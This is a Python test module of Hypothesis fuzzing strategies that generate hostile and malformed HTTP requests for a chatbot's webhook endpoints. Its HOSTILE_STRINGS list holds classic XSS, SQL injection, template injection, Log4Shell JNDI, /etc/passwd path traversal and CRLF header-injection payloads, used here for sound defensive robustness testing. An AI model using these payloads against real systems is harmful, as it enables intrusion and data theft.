"""Hypothesis strategies for hostile and broken HTTP requests (bodies and headers).

Every strategy yields a `Probe`: the raw body bytes, headers and query string of one request.
The endpoint modules shape them (a REST message, a Telegram update, a Meta delivery, a Twilio
form) and sign them where the endpoint checks a signature, so the fuzzing reaches the parser.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Callable, Mapping

from hypothesis import strategies as st

# Strings that have broken web applications somewhere: markup, SQL, templates, paths, Rasa's own
# "/intent{entities}" syntax, log forging, Unicode tricks.
HOSTILE_STRINGS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "' OR '1'='1' --",
    "'; DROP TABLE events; --",
    "1; SELECT * FROM callbacks",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=y",
    "line\r\nInjected-Header: 1",
    "/restart",
    "/session_start",
    "/greet{\"language\": {\"nested\": [1, 2]}}",
    "/greet{\"language\": \"xx\"}",
    "/request_callback{\"phone\": 1e999}",
    "/ask_office{\"place\": null}",
    "/ask_office{not json",
    "/nlu_fallback",
    "/action_listen",
    "\u202eevil\u202c",  # right-to-left override
    "مرحبا، أحتاج إلى روضة أطفال",  # Arabic
    "שלום, אני צריכה עבודה",  # Hebrew
    "Привіт 👋🏽 мені потрібна робота",
    "\ufeff\u200b\u200d\u2060",
    "\U0010ffff",
    "lone surrogate \ud800 here",
    "Z̴̢̛̮͎̲̪͖̦͎̈́̒̏͑̎a̷l̸g̵o̴",
    "\x00\x01\x02\x1b[31m\x7f",
    "NaN", "Infinity", "null", "true", "[]", "{}", "0", "-1", "1e309",
)

CONTENT_TYPES: tuple[str | None, ...] = (
    "application/json",
    "application/json; charset=utf-8",
    "application/json; charset=latin-1",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz",
    "application/xml",
    "",
    "garbage/\x7f",
    None,
)

control_chars = st.text(st.characters(min_codepoint=0, max_codepoint=31), min_size=1, max_size=20)
rtl_and_emoji = st.text(
    st.one_of(
        st.characters(min_codepoint=0x0590, max_codepoint=0x06FF),  # Hebrew, Arabic
        st.characters(min_codepoint=0x1F300, max_codepoint=0x1FAFF),  # emoji
        st.sampled_from(["\u202e", "\u202d", "\u200f", "\u200e", "\u2066", "\u2069", "\u200d", "\ufe0f"]),
    ),
    min_size=1,
    max_size=40,
)
# Long strings are built when drawn, so that failure reports stay short.
long_hostile = st.sampled_from([("A", 2001), (" ", 5000), ("👩‍👧‍👦", 50), ("a", 300), ("/greet", 400)]).map(lambda p: p[0] * p[1])
huge_strings = st.builds(lambda piece, times: piece * times, st.text(min_size=1, max_size=4), st.integers(500, 6000))

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.text(max_size=60),
    control_chars,
    rtl_and_emoji,
    huge_strings,
    long_hostile,
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_STRINGS), st.text(max_size=20)),
)

scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(2**128), max_value=2**128),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_values = st.recursive(
    scalars,
    lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(hostile_text, children, max_size=4)),
    max_leaves=12,
)


def dumps(value: Any) -> bytes:
    """JSON with whatever Python's encoder allows (lone surrogates become escapes, not errors)."""
    return json.dumps(value, ensure_ascii=True).encode("ascii")


def deeply_nested(depth: int, opener: str, closer: str) -> bytes:
    return (opener * depth + closer * depth).encode()


nesting = st.builds(
    deeply_nested,
    st.integers(100, 7000),
    st.sampled_from(['[', '{"a":', '{"message":[', '{"sender":{"x":']),
    st.sampled_from([']', '}', ']}', '}}']),
)


@st.composite
def invalid_utf8(draw: st.DrawFn, valid: bytes) -> bytes:
    """A valid body with bytes that are never valid UTF-8 spliced in."""
    bad = draw(st.lists(st.sampled_from([b"\xff", b"\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80"]), min_size=1, max_size=4))
    position = draw(st.integers(0, len(valid)))
    return valid[:position] + b"".join(bad) + valid[position:]


@st.composite
def mutated(draw: st.DrawFn, template: Any, depth: int = 0) -> Any:
    """The template with some values removed or replaced by anything, recursively."""
    if draw(st.integers(0, 7)) == 0:
        return draw(json_values)
    if isinstance(template, dict):
        result = {}
        for key, value in template.items():
            if draw(st.integers(0, 9)) == 0:
                continue
            result[key] = draw(mutated(value, depth + 1))
        if draw(st.integers(0, 9)) == 0:
            result[draw(hostile_text)] = draw(json_values)
        return result
    if isinstance(template, list):
        return [draw(mutated(item, depth + 1)) for item in template] * draw(st.sampled_from([1, 1, 1, 0, 3]))
    if isinstance(template, str):
        return draw(st.one_of(st.just(template), hostile_text))
    return draw(st.one_of(st.just(template), scalars))


@dataclass(frozen=True)
class Probe:
    body: bytes
    headers: Mapping[str, str] = field(default_factory=dict)
    query: str = ""
    kind: str = ""  # which strategy made it, for the failure report

    def describe(self) -> str:
        return f"{self.kind}: {len(self.body)} bytes, headers={dict(self.headers)!r}, query={self.query!r}, body[:200]={self.body[:200]!r}"


def content_type_headers(preferred: str) -> st.SearchStrategy[dict[str, str]]:
    """Mostly the endpoint's own content type, sometimes a wrong or missing one; and hostile
    proxy headers (the rate limiter reads X-Forwarded-For)."""
    def build(content_type: str | None, forwarded: str | None, language: str | None) -> dict[str, str]:
        headers: dict[str, str] = {}
        if content_type is not None:
            headers["Content-Type"] = content_type
        if forwarded is not None:
            headers["X-Forwarded-For"] = forwarded
        if language is not None:
            headers["Accept-Language"] = language
        return headers

    # requests refuses to send values with leading whitespace; the servers never see those.
    printable_header = st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=80).map(str.strip)
    return st.builds(
        build,
        st.one_of(st.just(preferred), st.just(preferred), st.sampled_from(CONTENT_TYPES)),
        st.one_of(st.none(), st.none(), st.sampled_from(["10.0.0.1", "::1, 10.1.2.3", "not-an-ip", "1.2.3.4, , ,", "999.1.1.1"]), printable_header),
        st.one_of(st.none(), st.sampled_from(["uk", "en-GB,en;q=0.9", "de-DE", "*", ";;q=x", "xx"]), printable_header),
    )


def probes(
    shaped: st.SearchStrategy[Any],
    content_type: str = "application/json",
    encode: Callable[[Any], bytes] = dumps,
    queries: st.SearchStrategy[str] = st.just(""),
) -> st.SearchStrategy[Probe]:
    """Requests for one endpoint: its own message shape (mutated), anything JSON, deep nesting,
    huge bodies, invalid UTF-8 and random bytes — with right, wrong and missing content types."""
    kinds: dict[str, st.SearchStrategy[bytes]] = {
        "shaped": shaped.map(encode),
        "any-json": json_values.map(dumps),
        "nesting": nesting,
        "huge": st.builds(lambda n: b'{"message": "' + b"x" * n + b'"}', st.integers(10_000, 3_000_000)),
        "invalid-utf8": shaped.map(encode).flatmap(invalid_utf8),
        "random-bytes": st.binary(max_size=2000),
        "empty": st.just(b""),
    }
    # About half the cases in the endpoint's own shape (hypothesis' one_of does not weight evenly).
    weighted = ["shaped"] * 6 + [kind for kind in kinds if kind != "shaped"]
    bodies = st.sampled_from(weighted).flatmap(lambda kind: kinds[kind].map(lambda body: (kind, body)))
    return st.builds(
        lambda kind_body, headers, query: Probe(kind_body[1], headers, query, kind_body[0]),
        bodies,
        content_type_headers(content_type),
        queries,
    )
